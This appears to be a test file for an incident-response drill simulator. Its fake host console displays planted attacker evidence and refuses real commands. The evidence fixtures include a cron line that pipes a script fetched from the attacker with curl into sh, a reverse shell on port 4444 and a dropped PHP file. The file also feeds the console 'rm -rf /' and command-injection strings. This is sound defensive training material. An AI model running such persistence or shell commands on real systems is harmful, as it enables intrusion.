import { describe, expect, it } from 'vitest';
import { shellCommand } from '../../src/cli/commands/shell.js';
import { Drill } from '../../src/engine/index.js';
import { hostConsole, runShell, tokenize } from '../../src/investigation/index.js';
import { checkScenarioText } from '../../src/model/index.js';
import { createTelemetry } from '../../src/telemetry/index.js';
import { architecture, scenarioVariant } from '../helpers.js';

type Doc = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const arch = architecture();
// fe-bash-rce with evidence on FEServ1 in initial-access (seed 7: T+27m37s to about T+47m).
const scenario = checkScenarioText(
  's.yaml',
  scenarioVariant((doc: Doc) => {
    const state = doc.attacker.states[1];
    state.evidence = [
      ...(state.evidence ?? []),
      {
        kind: 'process',
        on: 'FEServ1',
        user: 'nginx',
        parent: 'php-fpm',
        command: 'sh -i',
        at: '1m',
        until: 'leave',
      },
      { kind: 'connection', on: 'FEServ1', to: 'attacker', port: 4444, at: '1m', until: 'leave' },
      {
        kind: 'file',
        on: 'FEServ1',
        path: '/var/spool/cron/nginx',
        owner: 'nginx',
        size: 60,
        at: '2m',
        description: '*/5 * * * * curl -s http://{{attacker_ip}}/x.sh | sh',
      },
      {
        kind: 'file',
        on: 'FEServ1',
        path: '/var/www/shop/public/media/static/thumb.php',
        owner: 'nginx',
        size: 31,
        at: '2m',
      },
    ];
  }),
  arch,
).loaded!.model;

function shell(at: string, command: string, host = 'FEServ1') {
  const drill = new Drill(arch, scenario, 7);
  drill.advanceTo(Number(at.replace('m', '')) * 60_000);
  const telemetry = createTelemetry(drill.compiled, 7);
  const ctx = hostConsole(drill.compiled, telemetry, drill, host);
  return ctx ? runShell(ctx, command).lines.join('\n') : undefined;
}

describe('the host console', { timeout: 60_000 }, () => {
  it("lists the static folder's own files by the baseline's naming convention (one truth)", () => {
    const baseline = arch.baselines.find((b) => b.naming_convention)!;
    const convention = new RegExp(baseline.naming_convention!);
    const listing = shell('20m', 'ls -la /var/www/shop/public/media/static')!;
    const names = listing
      .split('\n')
      .map((line) => line.split(/\s+/).at(-1)!)
      .filter((name) => /\.[a-z0-9]+$/.test(name));
    expect(names.length).toBeGreaterThan(2);
    for (const name of names) expect(name).toMatch(convention);
    // The attacker's file is what breaks it.
    const later = shell('35m', 'ls -la /var/www/shop/public/media/static')!;
    expect(later).toMatch(/ thumb\.php$/m);
    expect('thumb.php').not.toMatch(convention);
  });

  it("shows the attacker's process only while it runs", () => {
    expect(shell('20m', 'ps aux')).not.toContain('sh -i');
    expect(shell('35m', 'ps aux')).toMatch(/^nginx\s+\d+ .* sh -i$/m);
    expect(shell('35m', 'ps -ef')).toMatch(/^nginx\s+\d+\s+130\d .* sh -i$/m);
    expect(shell('90m', 'ps aux')).not.toContain('sh -i');
  });

  it("shows the attacker's connection, cron entry and file from the facts", () => {
    expect(shell('35m', 'ss -tanp')).toMatch(/ESTAB .* 198\.51\.100\.23:4444/);
    expect(shell('35m', 'crontab -l -u nginx')).toBe(
      '*/5 * * * * curl -s http://198.51.100.23/x.sh | sh',
    );
    expect(shell('20m', 'crontab -l -u nginx')).toBe('no crontab for nginx');
    expect(shell('35m', 'find /var/www -mmin -10 -name "*.php"')).toBe(
      '/var/www/shop/public/media/static/thumb.php',
    );
    expect(shell('35m', 'ls -la /var/www/shop/public/media/static')).toMatch(
      /nginx .* thumb\.php$/m,
    );
  });

  it("reads the host's own logs up to now, through pipes", () => {
    const lines = shell('30m', 'grep PHP%0Ais_the /var/log/nginx/access.log | tail -n 2')!.split(
      '\n',
    );
    expect(lines).toHaveLength(2);
    expect(lines.every((l) => l.startsWith('198.51.100.23 '))).toBe(true);
    expect(shell('20m', 'grep -c PHP%0Ais_the /var/log/nginx/access.log')).toBe('0');
  });

  it('answers like bash, runs nothing real and strips control characters', () => {
    expect(shell('30m', 'rm -rf /')).toBe('bash: rm: command not found');
    expect(shell('30m', 'echo $(id) `id`; ls')).toBe('$(id) `id`; ls');
    expect(shell('30m', 'echo a\u001b]52;c;SGVsbG8=\u0007b')).toBe('a]52;c;SGVsbG8=b');
    expect(shell('30m', 'cat /nope')).toBe('cat: /nope: No such file or directory');
    expect(shell('30m', 'uname -a')).toMatch(/^Linux feserv1 3\.10\.0-.*el7.* GNU\/Linux$/);
    expect(shell('30m', 'ps aux', 'FW1')).toBeUndefined();
    expect(tokenize(`grep -i 'a b' "c\\"d" | head`)).toEqual([
      ['grep', '-i', 'a b', 'c"d'],
      ['head'],
    ]);
  });

  it('ttx shell prints the prompt and the output, and journals the command', () => {
    let text = '';
    shellCommand(
      'fe-bash-rce',
      'id',
      { host: 'FEServ1', seed: '7', at: '10m', json: true },
      (s) => (text += s),
    );
    const result = JSON.parse(text);
    expect(result.lines).toEqual(['uid=0(root) gid=0(root) groups=0(root)']);
    expect(result.action).toEqual({ at: 600_000, do: 'shell', target: 'FEServ1', text: 'id' });
  });
});
